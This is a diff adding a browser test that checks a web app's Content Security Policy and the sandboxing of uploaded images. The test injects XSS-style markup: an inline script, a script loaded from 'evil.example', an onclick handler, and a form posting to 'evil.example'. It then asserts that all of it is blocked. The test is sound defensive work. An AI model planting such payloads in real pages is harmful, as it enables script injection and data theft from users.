@@ -9,7 +9,7 @@ import { setLike } from "#app/models/like.server";
 import { aPage } from "../browser.ts";
 import { signedIn } from "../http.ts";
 import { aLook, aUser } from "../people.ts";
-import { startServer } from "../server.ts";
+import { startServer, until } from "../server.ts";
 
 const server = await startServer({ RATE_LIMIT_FACTOR: "1000" });
 
@@ -101,3 +101,36 @@ test("SEC-71: what people write is text on every screen, with scripts and in the
   expect(asked).toBe(0);
   expect(complaints()).toEqual([]);
 }, 180_000);
+
+test("SEC-35: what got into a page all the same would not run, and an uploaded picture opened by itself is a picture", async () => {
+  const ana = await aUser();
+  const look = await aLook({ by: ana });
+  const { page, complaints } = await aPage(server, { as: await signedIn(server, ana) });
+  const harm = () => page.evaluate(() => (globalThis as { __harm?: string }).__harm ?? "none");
+  const left: string[] = []; // what the policy stops never leaves the browser
+  const isStopped = (error = "") => /csp|ERR_BLOCKED_BY_CSP/.test(error);
+  page.on("requestfailed", (request) => !isStopped(request.failure()?.errorText) && left.push(`${request.url()} ${request.failure()?.errorText}`));
+  page.on("response", (response) => response.url().includes("evil.example") && left.push(response.url()));
+  await page.goto(`/post/${look.id}`);
+  await page.locator("h1").first().waitFor({ state: "attached" });
+  expect(complaints()).toEqual([]);
+  await page.evaluate((markup) => {
+    const frame = document.createElement("div");
+    frame.innerHTML = markup;
+    document.body.append(frame);
+    const script = document.createElement("script");
+    script.textContent = "window.__harm = 'script'";
+    document.body.append(script, Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }));
+  }, `${image}${base}<a href="#" onclick="window.__harm='click'" id="bait">x</a><form action="https://evil.example/"></form>`);
+  const refused = (directive: string) => complaints().some((said) => said.startsWith(`csp: ${directive}`));
+  await until("the policy to refuse all of it", () => ["script-src-elem", "script-src-attr", "base-uri"].every(refused));
+  await page.locator("#bait").evaluate((bait: HTMLElement) => bait.click());
+  await page.locator("form[action*=evil]").evaluate((form: HTMLFormElement) => form.submit());
+  await until("the form to be refused", () => refused("form-action"));
+  expect([await harm(), left.filter((line) => line.includes("evil.example"))]).toEqual(["none", []]);
+
+  const { page: alone, complaints: said } = await aPage(server, { as: await signedIn(server, ana) });
+  const answer = await alone.goto(`/media/${look.imageUrl}/master.jpg`);
+  expect([answer?.status(), answer?.headers()["content-type"]]).toEqual([200, "image/jpeg"]);
+  await until("the sandbox to stop even our own script there", () => said().some((line) => line.includes("'allow-scripts' permission is not set")));
+});
